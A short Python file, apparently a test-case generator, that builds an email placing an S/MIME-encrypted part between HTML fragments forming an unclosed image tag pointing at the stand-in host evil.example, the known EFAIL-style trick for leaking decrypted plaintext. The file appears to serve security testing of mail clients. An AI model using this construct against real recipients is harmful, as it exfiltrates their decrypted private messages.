from kit import *


def make():
    return letter(multipart("mixed", text('<img src="http://evil.example/', "html"), encrypted(cms.enveloped_data(alice())), text('">', "html")))


def beside():
    return {"inner.eml": detached(hello(), bank())}
